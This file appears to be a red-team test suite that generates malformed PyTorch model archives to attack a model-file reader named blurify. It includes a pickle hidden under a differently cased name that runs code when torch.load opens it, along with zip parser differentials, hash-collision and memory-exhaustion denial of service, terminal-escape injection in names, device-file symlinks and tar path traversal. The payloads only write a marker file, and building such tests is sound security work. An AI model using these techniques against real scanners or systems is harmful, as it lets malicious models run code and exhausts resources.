"""Attacks on blurify's reader of files: the archive and the pickle machine (team b)."""

from __future__ import annotations

import io
import os
import pickle
import re
import struct
import zipfile
from collections import OrderedDict
from pathlib import Path
from typing import Any

import torch
from torch import nn

PRIME = 2**61 - 1  # ints that are equal modulo this have the same hash in CPython


def net() -> nn.Sequential:
    """A small network with two places that subsample and a norm."""
    torch.manual_seed(0)
    return nn.Sequential(
        nn.Conv2d(3, 8, 3, padding=1),
        nn.BatchNorm2d(8),
        nn.ReLU(),
        nn.MaxPool2d(2),
        nn.Conv2d(8, 8, 3, 2, 1),
        nn.ReLU(),
        nn.AdaptiveAvgPool2d(1),
        nn.Flatten(),
        nn.Linear(8, 10),
    ).eval()


def saved(obj: Any) -> dict[str, bytes]:
    """The entries, without the folder's name, that torch.save writes for an object."""
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name.split("/", 1)[1]: archive.read(name) for name in archive.namelist()}


def write(path: Path, entries: dict[str, bytes]) -> None:
    """Write entries as torch's own writer does."""
    path.unlink(missing_ok=True)
    writer = torch._C.PyTorchFileWriter(str(path))
    for name, data in entries.items():
        if name not in (".data/serialization_id", "version"):
            writer.write_record(name, data, len(data))
    writer.write_end_of_file()


def attack_colliding_dict_keys(path: Path, marker: Path) -> None:
    """An attribute is a dict of 150,000 ints that all hash to 0 (multiples of 2**61 - 1): quadratic time wherever a
    dict is made of it."""
    count = 150_000
    body = b"".join(b"\x8a\x0b" + (PRIME * k).to_bytes(11, "little") + b"N" for k in range(count))
    entries = saved(net())
    pkl = entries["data.pkl"]
    key = b"X\x08\x00\x00\x00training"
    at = pkl.index(key)
    entries["data.pkl"] = pkl[:at] + b"X\x06\x00\x00\x00my_cfg}(" + body + b"u" + pkl[at:]
    write(path, entries)


def attack_colliding_memo(path: Path, marker: Path) -> None:
    """The opcode PUT names its memo entry by a decimal number of any size: 150,000 numbers that all hash to 0."""
    body = b"N" + b"".join(b"p%d\n" % (PRIME * k) for k in range(1, 150_000)) + b"0"
    entries = saved(net())
    pkl = entries["data.pkl"]
    entries["data.pkl"] = pkl[:2] + body + pkl[2:]
    write(path, entries)


def attack_surrogate_name(path: Path, marker: Path) -> None:
    """A child's name is a lone surrogate (pickle's text is UTF-8 with surrogatepass): printing the site fails."""
    model = net()
    outer = nn.Sequential(OrderedDict([("a", nn.Identity()), ("\udc80\ud800", model)])).eval()
    torch.save(outer, path)


def attack_terminal_escape_name(path: Path, marker: Path) -> None:
    """A child's name holds newlines and terminal escapes: output of several lines, titles, clipboard (OSC 52)."""
    model = net()
    outer = nn.Sequential(OrderedDict([("\x1b]52;c;Y3VybA==\x07\nerror: x\r", model)])).eval()
    torch.save(outer, path)


def attack_unprintable_int(path: Path, marker: Path) -> None:
    """A stride of 20,000 digits: str() of it raises ValueError (sys.set_int_max_str_digits) in whatever says so."""
    model = net()
    model[3].__dict__["stride"] = 1 << 70_000
    torch.save(model, path)


def attack_stride_zero_weight(path: Path, marker: Path) -> None:
    """A weight of 2**21 x 2**15 whose strides are 0, within 4 bytes of storage: copying it takes 256 GB."""
    model = net()
    model[8] = nn.Linear(8, 10)
    model[8].weight = nn.Parameter(torch.zeros(1).expand(2**21, 2**15))
    torch.save(model, path)


def attack_stats_alias_weights(path: Path, marker: Path) -> None:
    """running_mean and running_var are views of the convolution's weight: a run in train mode would change weights."""
    model = net()
    weight = model[0].weight.detach()
    model[0].weight = nn.Parameter(weight)
    model[1].running_mean = weight.view(-1)[:8]
    model[1].running_var = weight.view(-1)[8:16].abs_().add_(0.5)
    model[1].momentum = None
    torch.save(model, path)


def attack_tensor_attribute_hides_method(path: Path, marker: Path) -> None:
    """Tensors keep a __dict__ (torch._utils._set_obj_state): plain data there hides `size`, `__deepcopy__`."""
    model = net()
    weight = model[0].weight
    for name in ("__deepcopy__", "__reduce_ex__", "size", "detach", "shape", "clone", "storage", "_is_param"):
        weight.__dict__[name] = 5
    buffer = io.BytesIO()
    del weight.__dict__["__reduce_ex__"]
    for name in ("size", "detach", "shape", "clone", "storage"):
        weight.__dict__.pop(name)
    extra = {"size": 5, "detach": 5, "clone": 5, "__deepcopy__": 5}
    weight.__dict__.clear()
    weight.__dict__.update({f"zz{k}": v for k, v in extra.items()})
    torch.save(model, buffer)
    with zipfile.ZipFile(buffer) as archive:
        entries = {n.split("/", 1)[1]: archive.read(n) for n in archive.namelist()}
    pkl = entries["data.pkl"]
    for name in extra:
        old, new = f"zz{name}".encode(), name.encode()
        pkl = pkl.replace(struct.pack("<cI", b"X", len(old)) + old, struct.pack("<cI", b"X", len(new)) + new)
    entries["data.pkl"] = pkl
    write(path, entries)


def archive_of(model: nn.Module, old: bytes, new: bytes) -> dict[str, bytes]:
    """The entries of a saved model with one text of its pickle replaced."""
    entries = saved(model)
    assert entries["data.pkl"].count(old) >= 1, old
    entries["data.pkl"] = entries["data.pkl"].replace(old, new, 1)
    return entries


def text(value: str) -> bytes:
    """A text as a pickle's BINUNICODE."""
    raw = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def with_attribute(model: nn.Module, name: str, value: bytes) -> dict[str, bytes]:
    """The entries of a saved model, its outer module having one more attribute: opcodes that push a value."""
    return archive_of(model, text("training"), text(name) + value + text("training"))


def attack_colliding_set(path: Path, marker: Path) -> None:
    """As colliding_dict_keys, through a set (builtins.set reduced on a list) in an attribute."""
    ints = b"".join(b"\x8a\x0b" + (PRIME * k).to_bytes(11, "little") for k in range(150_000))
    write(path, with_attribute(net(), "my_cfg", b"c__builtin__\nset\n](" + ints + b"e\x85R"))


def attack_colliding_tuples(path: Path, marker: Path) -> None:
    """Dict keys that are tuples of ints which collide, and floats: whatever counts ints alone lets them through."""
    keys = b"".join(b"\x8a\x0b" + (PRIME * k).to_bytes(11, "little") + b"\x85N" for k in range(120_000))
    write(path, with_attribute(net(), "my_cfg", b"}(" + keys + b"u"))


def attack_colliding_floats(path: Path, marker: Path) -> None:
    """Dict keys that are floats m * 2**(61 k + j): a rotation of the mantissa's bits by 61 comes back to one hash."""
    floats = {float(m) * 2.0 ** (61 * k) for m in range(1, 4) for k in range(-16, 16)}
    keys = b"".join(b"G" + struct.pack(">d", f) + b"N" for f in floats)
    write(path, with_attribute(net(), "my_cfg", b"}(" + keys * 3000 + b"u"))


def attack_colliding_state_dict_rest(path: Path, marker: Path) -> None:
    """A checkpoint of weights whose unused part (an optimizer) is a dict of 150,000 colliding ints."""
    entries = saved({"state_dict": torch_resnet(), "optimizer": "HERE"})
    body = b"".join(b"\x8a\x0b" + (PRIME * k).to_bytes(11, "little") + b"N" for k in range(150_000))
    entries["data.pkl"] = entries["data.pkl"].replace(text("HERE"), b"}(" + body + b"u", 1)
    write(path, entries)


def torch_resnet() -> dict[str, torch.Tensor]:
    """The weights of a ResNet-18 of timm."""
    import timm

    return dict(timm.create_model("resnet18", pretrained=False).state_dict())


def attack_metadata_of_state_dict(path: Path, marker: Path) -> None:
    """state_dict._metadata is read by load_state_dict: text where numbers are compared, and
    `assign_to_params_buffers` (torch/nn/modules/module.py, _load_from_state_dict) with doubles for weights."""
    weights: Any = OrderedDict((k, v.double() if v.is_floating_point() else v) for k, v in torch_resnet().items())
    weights._metadata = OrderedDict(
        [("", {"version": "x", "assign_to_params_buffers": True}), ("bn1", {"version": "x"}), ("conv1", 5)]
    )
    torch.save(weights, path)


def attack_module_in_itself(path: Path, marker: Path) -> None:
    """A module is its own child, and a list holds itself: endless recursion in whatever walks without a memo."""
    model = net()
    model._modules["5"] = nn.Sequential()
    model[5]._modules["0"] = model[5]
    loop: list[Any] = []
    loop.append(loop)
    model.my_list = loop  # type: ignore[assignment]
    torch.save(model, path)


def attack_storage_dtype_twice(path: Path, marker: Path) -> None:
    """One storage named twice with different types and sizes (torch caches the first by its key alone)."""
    model = net()
    entries = saved(model)
    pkl = entries["data.pkl"]

    entries["data.pkl"] = pkl.replace(b"FloatStorage", b"DoubleStorage", 1)
    write(path, entries)


def attack_fifo(path: Path, marker: Path) -> None:
    """The file is a FIFO: opening it waits for ever."""
    path.unlink(missing_ok=True)
    os.mkfifo(path)


def attack_dev_zero(path: Path, marker: Path) -> None:
    """The file is a symlink to /dev/zero: reading never ends."""
    path.unlink(missing_ok=True)
    path.symlink_to("/dev/zero")


def attack_tty_device(path: Path, marker: Path) -> None:
    """The file is a symlink to /proc/self/mem, whose size is 0 and which can be sought."""
    path.unlink(missing_ok=True)
    path.symlink_to("/proc/self/mem")


def attack_sparse_file(path: Path, marker: Path) -> None:
    """A sparse file of 2 TB that begins as a safetensors file with a header of 1 TB."""
    with path.open("wb") as file:
        file.write(struct.pack("<Q", 2**40) + b"{")
        file.truncate(2**41)


def attack_colliding_storage_keys(path: Path, marker: Path) -> None:
    """Two records whose names differ in case (miniz looks up without case: data/a, data/A): one reader, two tensors."""
    entries = saved(net())
    pkl = entries["data.pkl"]
    for old, new in (("1", "a"), ("2", "A")):
        pkl, count = re.subn(
            b"(X.\0\0\0" + old.encode() + b")(?=q.X\x03\0\0\0cpu|q.h)", b"X\x01\x00\x00\x00" + new.encode(), pkl
        )
        assert count == 1
        entries["data/" + new] = entries.pop("data/" + old)
    entries["data.pkl"] = pkl
    plain_zip(path, entries)


def plain_zip(path: Path, entries: dict[str, bytes], folder: str = "archive/") -> None:
    """Write entries with Python's own zipfile, uncompressed."""
    path.unlink(missing_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries.items():
            archive.writestr(zipfile.ZipInfo(folder + name), data)


def attack_shared_modules_unused(path: Path, marker: Path) -> None:
    """A ResNet-18 with one more child, never run: 15 levels of Sequential, each holding the level below twice, so that
    state_dict() (which counts what is shared at every place) has 160,000 entries."""
    import torchvision

    model = torchvision.models.resnet18().eval()
    level: nn.Module = nn.BatchNorm1d(1)
    for _ in range(LEVELS):
        level = nn.Sequential(level, level)
    model.add_module("extra", level)
    torch.save(model, path)


LEVELS = 15


def attack_one_storage_many_views(path: Path, marker: Path) -> None:
    """A network with an unused child of 400 buffers, each all of the same 16 MB of storage: whoever copies
    tensors one by one copies 6.4 GB, from a file of 16 MB."""
    model = net()
    block = torch.zeros(4_000_000)
    unused = nn.Module()
    for number in range(400):
        unused.register_buffer(f"b{number}", block.view(4_000_000))
    relu = model[2]
    relu.add_module("unused", unused)
    torch.save(model, path)


def distinct() -> tuple[dict[str, bytes], str, str]:
    """The entries of a saved net, and the names of two storages of it of the same size (bias and norm's weight)."""
    return saved(net()), "data/1", "data/2"


def raw_zip(path: Path, rows: list[tuple[bytes, bytes, bytes]], comment: bytes = b"", flags: int = 0) -> None:
    """Write an archive of (local name, central name, data)."""
    import zlib

    out, central = b"", b""
    for local, name, data in rows:
        head = struct.pack("<HHHHHIII", 20, flags, 0, 0, 33, zlib.crc32(data), len(data), len(data))
        central += (
            b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, len(out))
        )
        central += name
        out += b"PK\x03\x04" + head + struct.pack("<HH", len(local), 0) + local + data
    count = len(rows)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(out), len(comment))
    path.write_bytes(out + central + b"PK\x05\x06" + end + comment)


def rows_of(entries: dict[str, bytes], folder: bytes = b"archive/") -> list[tuple[bytes, bytes, bytes]]:
    """Entries as rows for raw_zip."""
    return [(folder + n.encode(), folder + n.encode(), d) for n, d in entries.items()]


def attack_upper_case_pickle_first(path: Path, marker: Path) -> None:
    """archive/DATA.PKL, which runs code, behind all of the archive of a good model: miniz finds names without regard to
    case, so that torch.load runs DATA.PKL where blurify reads data.pkl and calls the file good."""
    entries = saved(net())
    evil = b"\x80\x02cbuiltins\nopen\n" + text(str(marker)) + text("w") + b"\x86R."
    raw_zip(path, [*rows_of(entries), (b"archive/DATA.PKL", b"archive/DATA.PKL", evil)])


def attack_nul_in_name(path: Path, marker: Path) -> None:
    """Central names with a NUL: Python cuts the name there (zipfile.ZipInfo.__init__), miniz does not."""
    entries, one, two = distinct()
    rows = rows_of(entries)
    names = {b"archive/" + one.encode(): entries[two]}
    extra = [(n + b"\0zz", n + b"\0zz", d) for n, d in names.items()]
    raw_zip(path, rows + extra)


def attack_two_folders(path: Path, marker: Path) -> None:
    """Two folders in one archive: torch takes the folder of the first entry, another reader the one with data.pkl."""
    entries, _, _ = distinct()
    other = {k: bytes(len(v)) if k.startswith("data/") else v for k, v in entries.items()}
    raw_zip(path, rows_of(other, b"first/") + rows_of(entries, b"archive/"))


def attack_backslash_name(path: Path, marker: Path) -> None:
    """data\\1 beside data/1: readers that replace os.sep see two of one name."""
    entries, _, two = distinct()
    raw_zip(path, [(b"archive/data\\1", b"archive/data\\1", entries[two]), *rows_of(entries)])


def attack_local_name_differs(path: Path, marker: Path) -> None:
    """Local headers name the two storages the other way round than the directory does."""
    entries, one, two = distinct()
    swap = {one.encode(): two.encode(), two.encode(): one.encode()}
    raw_zip(path, [(b"archive/" + swap.get(n[8:], n[8:]), n, d) for n, _, d in rows_of(entries)])


def attack_utf8_flag(path: Path, marker: Path) -> None:
    """Names of bytes above 127, without the UTF-8 flag (Python: cp437, miniz: bytes) and the same name with it."""
    entries, _, _ = distinct()
    name = "archive/data/\u00e9".encode()
    raw_zip(path, [*rows_of(entries), (name, name, b"x"), (b"archive/data/\x82", b"archive/data/\x82", b"y")])


def attack_end_record_in_comment(path: Path, marker: Path) -> None:
    """Two archives one after another, the second end-record inside the first's comment."""
    entries, _, _ = distinct()
    raw_zip(path, rows_of({k: bytes(len(v)) if k.startswith("data/") else v for k, v in entries.items()}))
    second = path.read_bytes()
    raw_zip(path, rows_of(entries), comment=second[:60000])


def attack_big_endian(path: Path, marker: Path) -> None:
    """The record `byteorder` says big: torch swaps bytes. A second record BYTEORDER says little."""
    entries, _, _ = distinct()
    entries["byteorder"] = b"big"
    write(path, entries)


def attack_byteorder_other_case(path: Path, marker: Path) -> None:
    """A record BYTEORDER (big) and none in small letters: torch finds it without regard to case, and swaps bytes."""
    entries, _, _ = distinct()
    del entries["byteorder"]
    write(path, {"BYTEORDER": b"big", **entries})


def attack_storage_alignment_other_case(path: Path, marker: Path) -> None:
    """Storages that the archive names in other case than the pickle does: torch finds data/A for the key a."""
    entries, _, _ = distinct()
    raw_zip(
        path, [(n.replace(b"data/1", b"DATA/1"), n.replace(b"data/1", b"DATA/1"), d) for n, _, d in rows_of(entries)]
    )


def attack_torchscript(path: Path, marker: Path) -> None:
    """A TorchScript archive: torch.jit.load compiles its code/."""
    torch.jit.script(net()).save(str(path))


def attack_tar(path: Path, marker: Path) -> None:
    """torch's oldest format, a tar file (torch.serialization._legacy_load, legacy_load): extracted to a folder."""
    import tarfile

    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors", str(marker), "../../" + marker.name):
            info = tarfile.TarInfo(name)
            data = pickle.dumps(0, 2)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
